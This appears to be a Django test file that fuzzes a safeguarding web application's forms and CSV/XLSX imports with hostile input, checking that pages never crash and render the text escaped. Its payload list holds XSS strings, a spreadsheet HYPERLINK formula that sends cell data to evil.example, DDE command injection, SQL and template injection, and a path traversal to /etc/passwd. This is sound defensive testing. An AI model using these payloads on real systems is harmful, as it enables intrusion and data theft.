"""Hostile input through the real pages: very long text, control characters (NUL too), HTML and
script, spreadsheet formulas and odd unicode, typed into a representative set of forms and
uploaded in the spreadsheet imports, by a signed-in person whose role may use the page.

Each page answers with its form again and a clear error, or saves the text and shows it inert
(escaped, never as markup): never a server error. Every other field of a form gets a valid value
(read from the form the page itself offers), so the hostile text is what the page must cope
with, and it is saved where the page allows it."""

import csv
import datetime
import io
import itertools
import json

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from safeguarding.accounts.roles import Role

SCRIPT = "<script>alert('x')</script>"
NASTY = [
    "\x00", "before\x00after", SCRIPT, f'"><img src=x onerror=alert(1)>{SCRIPT}',
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "-2+3", "\t=1+1", "\r\n=1", "\u202eevil\u202c", "\ufeff\u200b\u200d", "Zoë 👩‍👧 ﷽",
    "\x1b[31mred\x07\x08", "' OR 1=1 --", "{{ settings.SECRET_KEY }}", "{% debug %}",
    "%s%n%x", "../../etc/passwd", "ｓｃｒｉｐｔ", "\U0001f9d2" * 3,
]
# Text a browser can send: any character but the lone surrogates UTF-8 cannot carry.
ANY_CHARACTER = st.characters(exclude_categories=("Cs",))
HOSTILE = st.one_of(
    st.sampled_from(NASTY),
    st.text(ANY_CHARACTER, min_size=1, max_size=40),
    st.builds(lambda piece, times: piece * times, st.sampled_from(NASTY + ["x", "é"]),
              st.integers(2_000, 20_000)),  # very long
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(ANY_CHARACTER, max_size=20)),
)
FEW = settings(max_examples=15, deadline=None, database=None,
               suppress_health_check=list(HealthCheck))
UNIQUE = itertools.count(1)


def filled(form, text: str) -> dict:
    """The form as the person would send it: `text` in every free-text field, the first choice
    the page offers in every choice, a valid date, number or address elsewhere, and the hidden
    fields (a record's version) as the page gave them."""
    today = timezone.localdate()
    data = {}
    for name, field in form.fields.items():
        key, widget = form.add_prefix(name), field.widget
        if isinstance(field, forms.FileField):
            continue
        if isinstance(widget, forms.HiddenInput):
            if form[name].value() is not None:
                data[key] = form[name].value()
        elif isinstance(field, forms.MultiValueField):
            suffixes = getattr(widget, "widgets_names",
                               [f"_{i}" for i in range(len(widget.widgets))])
            for suffix, part in zip(suffixes, (today.day, today.month, today.year), strict=False):
                data[key + suffix] = str(part)
        elif isinstance(field, forms.ChoiceField):
            offered = [str(value) for value, _ in field.choices if str(value) not in ("", "None")]
            if offered:
                multiple = isinstance(field, (forms.MultipleChoiceField,
                                              forms.ModelMultipleChoiceField))
                data[key] = offered[:1] if multiple else offered[0]
        else:
            data[key] = typed_value(field, text, today, ending=name.startswith("end"))
    return {key: value for key, value in data.items() if value is not None}


def typed_value(field, text: str, today, *, ending=False):
    """A valid value for a field that takes one kind of value; `text` for free text."""
    if isinstance(field, forms.BooleanField):
        return "on"
    if isinstance(field, (forms.IntegerField, forms.DecimalField, forms.FloatField)):
        return "1"
    if isinstance(field, forms.DateTimeField):
        return timezone.now().strftime("%Y-%m-%d %H:%M")
    if isinstance(field, forms.DateField):
        return today.isoformat()
    if isinstance(field, forms.URLField):
        return "https://meet.example/room"
    if isinstance(field, forms.EmailField):
        return f"person{next(UNIQUE)}@example.com"
    if type(field).__name__ == "TimeField":
        return "11:00" if ending else "10:00"
    return text if isinstance(field, forms.CharField) else None


def answered_safely(client: Client, response, text: str) -> None:
    """A clear answer: the form again with its errors, a refusal, or a redirect to where the
    text now shows inert. Never a server error, never the text as markup."""
    assert response.status_code < 500, response.content[:2000]
    assert response.status_code in (200, 302, 400, 403, 404, 409, 413, 422), response.status_code
    if response.status_code == 200:
        page = response.content.decode()
        assert "govuk-error-summary" in page or "govuk-error-message" in page, page[:3000]
    if response.status_code == 302 and not response.url.startswith("http"):
        shown = client.get(response.url)
        assert shown.status_code < 500, shown.content[:2000]
        response = shown
    if "<script>" in text:
        assert b"<script>alert(" not in response.content


def post_hostile_form(client: Client, url: str, text: str, **extra) -> None:
    page = client.get(url)
    assert page.status_code == 200, (url, page.status_code)
    data = {**filled(page.context["form"], text), **extra}
    answered_safely(client, client.post(url, data), text)


# -- forms -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_notification_form_takes_hostile_text_safely(make_person, agency, signed_in):
    client = signed_in(make_person(Role.AGENCY_LEAD))

    @given(text=HOSTILE)
    @FEW
    def notify(text):
        post_hostile_form(client, "/incidents/notify/", text, reference=f"R-{next(UNIQUE)}")

    notify()


@pytest.mark.django_db
def test_a_self_assessment_answer_takes_hostile_text_safely(partnership, agency, make_person,
                                                            signed_in):
    from safeguarding.assurance import services

    manager = make_person(Role.BUSINESS_MANAGER)
    framework = services.framework_create(name="S11", kind="section_11",
                                          partnerships=[partnership], scale=[("Met", True)])
    services.standard_add(framework=framework, title="One", descriptors="x")
    cycle = services.cycle_open(framework=framework, name="C", opens_on=timezone.localdate(),
                                due_on=timezone.localdate() + datetime.timedelta(days=9),
                                agencies=[agency], by=manager)
    client = signed_in(make_person(Role.AGENCY_LEAD))
    url = f"/assurance/returns/{cycle.returns.get().pk}/standards/1/"

    @given(text=HOSTILE)
    @FEW
    def answer(text):
        post_hostile_form(client, url, text)

    answer()


@pytest.mark.django_db
def test_the_new_meeting_form_takes_hostile_text_safely(make_person, panel, signed_in):
    client = signed_in(make_person(Role.BUSINESS_MANAGER))

    @given(text=HOSTILE)
    @FEW
    def new_meeting(text):
        post_hostile_form(client, "/meetings/new/", text)

    new_meeting()


@pytest.mark.django_db
def test_the_training_registration_takes_hostile_text_safely(partnership, agency):
    client = Client()  # registering is for people without an account yet

    @given(text=HOSTILE)
    @FEW
    def register(text):
        post_hostile_form(client, f"/p/{partnership.slug}/training/register/", text,
                          password="a long enough pass phrase 7")

    register()


@pytest.mark.django_db
def test_the_disagreement_form_takes_hostile_text_safely(make_person, partnership, agency,
                                                         signed_in):
    from safeguarding.escalations.tests.factories import stages_for
    from safeguarding.partnership.tests.factories import AgencyFactory

    stages_for(partnership)
    council = AgencyFactory(name="Northshire County Council", partnerships=[partnership])
    client = signed_in(make_person(Role.PRACTITIONER))

    @given(text=HOSTILE)
    @FEW
    def escalate(text):
        post_hostile_form(client, "/disagreements/new/", text, other_agency=council.pk)

    escalate()


# -- spreadsheet imports ---------------------------------------------------------------------------


def as_csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def as_xlsx(rows) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        # openpyxl refuses control characters in a cell, as Excel does: those files cannot exist.
        sheet.append([cell if not isinstance(cell, str) else
                      "".join(c for c in cell if c >= " " or c in "\t\n\r") for cell in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(rows, text_file: bool, name: str) -> SimpleUploadedFile:
    if text_file:
        return SimpleUploadedFile(f"{name}.csv", as_csv(rows), content_type="text/csv")
    return SimpleUploadedFile(f"{name}.xlsx", as_xlsx(rows), content_type=(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"))


def post_hostile_upload(client: Client, url: str, text: str, file, **extra) -> None:
    page = client.get(url)
    assert page.status_code == 200, (url, page.status_code)
    data = {**filled(page.context["form"], text), **extra, "file": file}
    answered_safely(client, client.post(url, data), text)


@pytest.mark.django_db
def test_the_child_death_import_takes_hostile_files_safely(partnership, agency, make_person,
                                                          signed_in):
    from safeguarding.child_deaths import exchange
    from safeguarding.child_deaths.tests.factories import ChildDeathFactory

    layout = exchange.case_export(ChildDeathFactory(partnership=partnership,
                                                    notifying_agency=agency))
    client = signed_in(make_person(Role.BUSINESS_MANAGER))

    @given(text=HOSTILE, as_json=st.booleans(), whole_file=st.booleans())
    @FEW
    def import_case(text, as_json, whole_file):
        data = json.loads(json.dumps(layout))
        data["notification"].update(case_reference=f"CD-{next(UNIQUE)}", pseudonym=text,
                                    circumstances=text, unexpected_because=text)
        if whole_file:
            content = text.encode("utf-8")
        elif as_json:
            content = json.dumps(data).encode("utf-8")
        else:  # the raw layout, formulas and all: no apostrophes added
            content = as_csv([exchange.CSV_HEADER, *exchange.csv_rows(data)])
        file = SimpleUploadedFile("case.csv", content, content_type="text/csv")
        post_hostile_upload(client, "/child-deaths/import/", text, file,
                            partnership=partnership.pk)

    import_case()


@pytest.mark.django_db
def test_the_survey_import_takes_hostile_files_safely(partnership, make_person, signed_in):
    client = signed_in(make_person(Role.BUSINESS_MANAGER))

    @given(text=HOSTILE, text_file=st.booleans(), count=st.sampled_from(["3", "-1", "x", ""]))
    @FEW
    def import_survey(text, text_file, count):
        rows = [["Question", "School year", "Answer", "Count"],
                [text, "Year 8", "Yes", "12"], ["Do you feel safe?", "Year 8", text, count],
                ["Do you feel safe?", text, "No", "4"]]
        post_hostile_upload(client, "/voice/surveys/import/", text,
                            upload(rows, text_file, "survey"), year="2025/26")

    import_survey()


@pytest.mark.django_db
def test_the_lms_import_takes_hostile_files_safely(partnership, agency, make_person, signed_in):
    from safeguarding.learning.tests.factories import CourseFactory, LearnerFactory

    course = CourseFactory(partnership=partnership)
    learner = LearnerFactory(partnership=partnership, agency=agency)
    client = signed_in(make_person(Role.BUSINESS_MANAGER))
    url = f"/partnerships/{partnership.slug}/training/imports/new/"

    @given(text=HOSTILE, text_file=st.booleans())
    @FEW
    def import_completions(text, text_file):
        rows = [["Email", "Course", "Completed"], [text, course.title, "2026-01-05"],
                [learner.user.email, text, "2026-01-05"],
                [learner.user.email, course.title, text]]
        post_hostile_upload(client, url, text, upload(rows, text_file, "lms"))

    import_completions()
